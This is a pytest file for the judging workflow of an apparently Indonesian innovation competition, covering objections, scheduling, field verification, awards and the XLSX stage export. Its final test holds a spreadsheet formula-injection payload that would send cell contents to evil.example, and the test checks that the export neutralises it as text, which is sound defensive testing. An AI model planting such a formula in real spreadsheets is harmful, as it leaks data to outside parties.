"""The finalist phase: objections, the presentation schedule, field verification, the final
selection with its awards, and the XLSX export of a stage."""

from __future__ import annotations

import io
import itertools
from datetime import date, time, timedelta

import openpyxl
import pytest
import sqlalchemy as sa

from central.judging import awards, objections, schedule, shortlist, verification
from central.judging.export import stage_workbook
from central.judging.models import EntryStatus, Objection, ObjectionStatus, PresentationSlot
from central.judging.schedule import ScheduleSettings
from shared.db import db, utcnow
from shared.models import AuditLog, Proposal, Stage
from shared.services import ServiceError
from shared.tenancy import tenant_scope
from shared.timeutil import WIB
from sync.models import ChangeEvent
from tests.central.judging.support import World, js, proposal, user


@pytest.fixture
def world(factory) -> World:
    return World(factory)


_citizens = itertools.count(1)


def _file(
    world: World,
    pid: int,
    addr: str = "10.0.0.1",
    reason: str = "Inovasi ini belum berjalan di lapangan sejak tahun lalu.",
    email: str | None = None,
):
    email = email or f"warga.{next(_citizens)}@example.org"  # one person per objection

    def go():
        target = proposal(pid)  # the view reads it from the public list first
        with tenant_scope(()):
            return objections.file(
                js(world.sid("objection")),
                target,
                name="Warga",
                email=email,
                reason=reason,
                remote_addr=addr,
            ).id

    return world.run(go)


def test_objection_upheld_removes_the_finalist_with_the_reason(world: World) -> None:
    finalists = world.to_objection_period(
        [world.tenant(province="51"), world.tenant(province="52")]
    )
    target = finalists[0]
    listed = world.run(
        lambda: [p.uuid for p, _t in objections.public_finalists(js(world.sid("objection")))]
    )
    assert sorted(listed) == sorted(p.uuid for p in finalists)
    # promotion into the finalists prepared the announcement: a finalist certificate each
    assert _certificates(world, target.id) == 1

    with pytest.raises(ServiceError):
        _file(world, target.id, reason="terlalu pendek")
    oid = _file(world, target.id)
    dismissed = _file(world, finalists[1].id)
    world.run(
        lambda: objections.decide(
            db.session.get(Objection, dismissed),
            uphold=False,
            reason="Bukti tidak mendukung sanggahan.",
            actor=user(world.staff.id),
        )
    )
    world.run(
        lambda: objections.decide(
            db.session.get(Objection, oid),
            uphold=True,
            reason="Verifikasi menunjukkan layanan berhenti.",
            actor=user(world.staff.id),
        )
    )

    entry = world.run(lambda: _entry(world.sid("objection"), target.id))
    assert (
        entry[0] == EntryStatus.REMOVED and "Verifikasi menunjukkan layanan berhenti." in entry[1]
    )
    assert world.f.get(Proposal, target.id).stage_code == "panel_nomination"  # no longer a finalist
    assert _certificates(world, target.id) == 0  # its certificate was revoked
    assert _catalogue_stage(world, target.id) == "panel_nomination"  # out of the catalogue
    assert _catalogue_stage(world, finalists[1].id) == "objection"
    assert _certificates(world, finalists[1].id) == 1
    assert world.f.get(Proposal, finalists[1].id).stage_code == "objection"
    assert world.f.count(AuditLog, AuditLog.action == "judging.objection.uphold") == 1
    assert world.f.count(AuditLog, AuditLog.action == "judging.objection.dismiss") == 1
    assert world.f.count(ChangeEvent, ChangeEvent.kind == "stage.reached") >= 1
    with pytest.raises(ServiceError):  # decided once
        world.run(
            lambda: objections.decide(
                db.session.get(Objection, oid),
                uphold=False,
                reason="Sudah diputuskan.",
                actor=user(world.staff.id),
            )
        )
    # promotion waits for the end of the window
    with pytest.raises(ServiceError):
        world.promote("objection")
    world.close_objections()
    check = world.promote("objection")
    assert check.selected == [finalists[1].id]


def _certificates(world: World, pid: int) -> int:
    """The proposal's certificates still valid."""
    from central.certificates.models import Certificate

    return world.f.count(
        Certificate, Certificate.proposal_id == pid, Certificate.revoked_at.is_(None)
    )


def _catalogue_stage(world: World, pid: int) -> str | None:
    """The stage the proposal's public catalogue entry shows (it is public only for finalists)."""
    from central.catalogue.models import CatalogueEntry

    stmt = sa.select(CatalogueEntry.stage_code).where(CatalogueEntry.proposal_id == pid)
    return world.run(lambda: db.session.execute(stmt).scalar_one())


def _entry(stage_id: int, pid: int):
    from central.judging.models import StageEntry

    return db.session.execute(
        sa.select(StageEntry.status, StageEntry.removed_reason).where(
            StageEntry.stage_id == stage_id, StageEntry.proposal_id == pid
        )
    ).one()


def test_objections_are_rate_limited_per_address_and_only_within_the_window(
    world: World, app
) -> None:
    (target,) = world.to_objection_period([world.tenant(province="51")])
    app.config["JUDGING_OBJECTIONS_PER_HOUR"] = 2
    _file(world, target.id)
    _file(world, target.id)
    with pytest.raises(ServiceError):
        _file(world, target.id)
    _file(world, target.id, addr="10.0.0.2")
    world.close_objections()
    with pytest.raises(ServiceError):
        _file(world, target.id, addr="10.0.0.3")
    assert world.f.count(Objection, Objection.status == ObjectionStatus.PENDING) == 3


def test_a_person_objects_to_a_finalist_once_while_it_is_pending(world: World) -> None:
    (target,) = world.to_objection_period([world.tenant(province="51")])
    _file(world, target.id, email="warga@example.org")
    with pytest.raises(ServiceError, match="SGH-"):  # names the objection already made
        _file(world, target.id, email="Warga@Example.org", addr="10.0.0.9")
    _file(world, target.id, email="tetangga@example.org")  # another person may
    assert world.f.count(Objection) == 2


def test_objections_open_only_once_the_finalist_list_is_public(world: World) -> None:
    """A window set to open before the Top 99 announcement must not show the list early."""
    world.to_objection_period([world.tenant(province="51")])  # Top 99 published 2 days ago
    now = utcnow()
    world.settings("objection", starts_at=now - timedelta(days=3), ends_at=now + timedelta(days=2))
    is_open = world.run(
        lambda: [
            objections.window_open(js(world.sid("objection")), now - timedelta(days=d))
            for d in (2.5, 0)
        ]
    )
    assert is_open == [False, True]  # before the announcement, then after it


def test_schedule_uses_working_days_in_wib_without_panelist_clashes(world: World) -> None:
    finalists = world.to_objection_period([world.tenant(province=str(p)) for p in range(51, 58)])
    world.close_objections()
    world.promote("objection")
    world.settings("presentation", evaluators_per_proposal=2)
    world.assign("presentation")
    friday = date(2027, 5, 7)
    holiday = date(2027, 5, 10)  # the Monday after
    settings = ScheduleSettings(
        first_day=friday,
        day_start=time(8, 0),
        day_end=time(9, 0),
        break_start=None,
        break_end=None,
        gap_minutes=0,
        parallel=2,
        holidays=(holiday,),
    )
    world.run(
        lambda: schedule.generate(
            js(world.sid("presentation")), settings, actor=user(world.staff.id)
        )
    )

    slots = world.run(
        lambda: [
            (s.proposal_id, s.starts_at, s.ends_at, s.confirm_by)
            for s in schedule.slots(js(world.sid("presentation")))
        ]
    )
    assert sorted(p for p, *_ in slots) == sorted(p.id for p in finalists)
    for _pid, start, end, confirm_by in slots:
        local = start.astimezone(WIB)
        assert local.weekday() < 5 and local.date() != holiday
        assert time(8, 0) <= local.time() and end.astimezone(WIB).time() <= time(9, 0)
        assert end - start == timedelta(minutes=20)  # 7 + 13
        assert confirm_by == start - timedelta(hours=24)
    assert world.run(lambda: schedule.clashes(js(world.sid("presentation")))) == []
    days = {s[1].astimezone(WIB).date() for s in slots}
    assert friday in days and holiday not in days

    # moving a slot onto a panelist's other presentation is refused
    def clash_move():
        items = schedule.slots(js(world.sid("presentation")))
        panels = schedule._panelists_by_proposal(js(world.sid("presentation")))
        a = items[0]
        b = next(
            s
            for s in items[1:]
            if panels[s.proposal_id] & panels[a.proposal_id] and s.starts_at != a.starts_at
        )
        schedule.move(js(world.sid("presentation")), b, a.starts_at, actor=user(world.staff.id))

    with pytest.raises(ServiceError):
        world.run(clash_move)

    # nor into the past, or so soon that the finalist cannot confirm it a day before
    def move_to(when):
        slot = schedule.slots(js(world.sid("presentation")))[0]
        schedule.move(js(world.sid("presentation")), slot, when, actor=user(world.staff.id))

    for when in (utcnow() - timedelta(days=2), utcnow() + timedelta(hours=12)):
        with pytest.raises(ServiceError, match="paling cepat|at the earliest"):
            world.run(lambda when=when: move_to(when))


def test_confirmation_is_due_24_hours_before(world: World) -> None:
    (target,) = world.to_objection_period([world.tenant(province="51")])
    world.close_objections()
    world.promote("objection")
    world.assign("presentation")
    start_day = (utcnow() + timedelta(days=10)).astimezone(WIB).date()
    world.run(
        lambda: schedule.generate(
            js(world.sid("presentation")),
            ScheduleSettings(first_day=start_day),
            actor=user(world.staff.id),
        )
    )
    slot_id, confirm_by = world.run(
        lambda: db.session.execute(
            sa.select(PresentationSlot.id, PresentationSlot.confirm_by)
        ).one()
    )
    with pytest.raises(ServiceError):
        world.run(
            lambda: schedule.confirm(
                db.session.get(PresentationSlot, slot_id),
                actor=user(world.staff.id),
                now=confirm_by + timedelta(minutes=1),
            )
        )
    world.run(
        lambda: schedule.confirm(
            db.session.get(PresentationSlot, slot_id),
            actor=user(world.staff.id),
            now=confirm_by - timedelta(hours=1),
        )
    )
    assert world.f.get(PresentationSlot, slot_id).confirmed_at is not None


def _to_final(world: World, n_tenants: int = 4) -> list[Proposal]:
    finalists = world.to_objection_period(
        [world.tenant(province=str(50 + i)) for i in range(n_tenants)]
    )
    world.close_objections()
    world.promote("objection")
    world.assign("presentation")
    world.score_all("presentation", lambda a: 60 + (a.proposal_id * 13) % 37)
    world.promote("presentation")
    return finalists


def test_field_verification_needs_a_te_and_a_tpi_visit(world: World) -> None:
    finalists = _to_final(world, 2)
    with pytest.raises(ServiceError):
        world.promote("field_verification")

    def visit(person, pid):
        verification.save_note(
            js(world.sid("field_verification")),
            proposal(pid),
            author=user(person.id),
            visited_on=date(2026, 11, 25),
            notes="Layanan berjalan, antrean berkurang, warga puas.",
            findings="Data sesuai proposal.",
            outcome="confirmed",
        )

    with pytest.raises(ServiceError, match="future|akan datang|belum"):  # not yet visited
        world.run(
            lambda: verification.save_note(
                js(world.sid("field_verification")),
                proposal(finalists[0].id),
                author=user(world.evaluators[0].id),
                visited_on=(utcnow() + timedelta(days=3)).date(),
                notes="Layanan berjalan, antrean berkurang, warga puas.",
                findings="",
                outcome="confirmed",
            )
        )
    for p in finalists:
        world.run(lambda p=p: visit(world.evaluators[0], p.id))
    assert (
        world.run(lambda: len(verification.missing_visits(js(world.sid("field_verification")))))
        == 2
    )
    for p in finalists:
        world.run(lambda p=p: visit(world.panelists[0], p.id))
    world.promote("field_verification")
    assert {world.f.get(Proposal, p.id).stage_code for p in finalists} == {"final"}


def test_final_selection_gives_awards_publishes_them_and_lists_alphabetically(world: World) -> None:
    finalists = _to_final(world, 5)
    for p in finalists:
        for person in (world.evaluators[0], world.panelists[0]):
            world.run(
                lambda p=p, person=person: verification.save_note(
                    js(world.sid("field_verification")),
                    proposal(p.id),
                    author=user(person.id),
                    visited_on=date(2026, 11, 25),
                    notes="Kunjungan lapangan sesuai jadwal.",
                    findings="",
                    outcome="confirmed",
                )
            )
    world.promote("field_verification")
    world.settings("final", shortlist_size=3, composition_rules=[])
    world.shortlist("final")
    top = world.run(lambda: shortlist.selected_ids(js(world.sid("final"))))
    outside = next(p.id for p in finalists if p.id not in top)
    with pytest.raises(ServiceError):  # a Top entry cannot also get a special award
        world.run(
            lambda: awards.set_special(
                js(world.sid("final")),
                proposal(top[0]),
                award="top_replikasi",
                note="",
                actor=user(world.staff.id),
            )
        )
    world.run(
        lambda: awards.set_special(
            js(world.sid("final")),
            proposal(outside),
            award="outstanding_achievement",
            note="Capaian luar biasa",
            actor=user(world.staff.id),
        )
    )

    winners = world.run(
        lambda: [(w.proposal.title, w.award) for w in awards.winners(js(world.sid("final")))]
    )
    assert [t for t, _a in winners] == sorted((t for t, _a in winners), key=str.lower)
    world.promote("final")
    got = {p.id: world.f.get(Proposal, p.id).award for p in finalists}
    assert sorted(pid for pid, a in got.items() if a == "top") == sorted(top)
    assert got[outside] == "outstanding_achievement"
    assert sum(1 for a in got.values() if a is None) == 1
    final_publish = world.run(lambda: js(world.sid("final")).stage.publish_at)
    events = world.run(
        lambda: [
            (e.payload["award"], db.session.get(Stage, e.stage_id).publish_at)
            for e in db.session.execute(
                sa.select(ChangeEvent).where(ChangeEvent.kind == "award.given")
            ).scalars()
        ]
    )
    assert len(events) == 4 and all(at == final_publish for _a, at in events)


def test_export_holds_the_whole_record_of_a_stage(world: World) -> None:
    world.proposals(world.tenant(province="51"), 2)
    world.judges("desk_evaluation", 3)
    world.open()
    world.assign()
    world.score_all("desk_evaluation", lambda a: 77)
    data = world.run(
        lambda: stage_workbook(js(world.sid("desk_evaluation")), actor=user(world.staff.id))
    )
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    names = wb.sheetnames
    assert len(names) >= 15
    scores = list(wb[names[6]].iter_rows(values_only=True))
    assert len(scores) == 1 + 6  # header + 2 proposals x 3 judges
    assert "Alasan penilaian yang cukup panjang." in scores[1]
    audit = list(wb[names[-1]].iter_rows(values_only=True))
    assert any("judging.score.submit" in row for row in audit[1:])
    assignments = list(wb[names[5]].iter_rows(values_only=True))
    assert {row[2:4] for row in assignments[1:]} == {("aktif", "otomatis")}  # words, not codes
    assert {row[3] for row in scores[1:]} == {"nilai dikirim"}
    # after the promotion the record is frozen, and still whole
    world.promote("desk_evaluation")
    data = world.run(
        lambda: stage_workbook(js(world.sid("desk_evaluation")), actor=user(world.staff.id))
    )
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    ranking = list(wb[wb.sheetnames[8]].iter_rows(values_only=True))
    assert [row[0] for row in ranking[1:]] == [1, 2]
    audit = list(wb[wb.sheetnames[-1]].iter_rows(values_only=True))
    assert any("judging.stage.promote" in row for row in audit[1:])


def test_export_keeps_a_formula_typed_as_a_title_as_text(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    world.proposals(world.tenant(province="51"), 1, title=formula)
    world.judges("desk_evaluation", 3)
    world.open()
    world.assign()
    data = world.run(
        lambda: stage_workbook(js(world.sid("desk_evaluation")), actor=user(world.staff.id))
    )
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    titled = [c for c in cells if isinstance(c.value, str) and formula in c.value]
    assert len(titled) >= 2  # entrants and assignments at least
    assert all(c.data_type == "s" for c in titled)  # never a live formula
